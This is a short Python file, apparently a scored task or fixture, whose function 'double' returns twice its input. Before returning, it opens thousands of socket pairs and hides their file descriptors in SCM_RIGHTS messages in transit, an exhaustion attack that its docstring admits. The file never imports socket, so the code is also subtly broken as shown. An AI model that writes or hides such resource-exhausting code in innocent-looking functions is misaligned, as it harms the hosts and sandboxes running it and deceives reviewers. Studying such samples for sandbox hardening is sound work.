"""Opens files without end and hides more of them in messages that are under way between two sockets."""

# points: double=0..4, rest=0..15
# %% double
import array


def double(x):
    hidden = []
    for _ in range(10_000):
        try:
            hidden.append(socket.socketpair())
            fds = array.array("i", [fd for pair in hidden[-20:] for fd in (pair[0].fileno(), pair[1].fileno())])
            for _ in range(20):
                hidden[-1][0].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)])
        except OSError:
            break
    return 2 * x
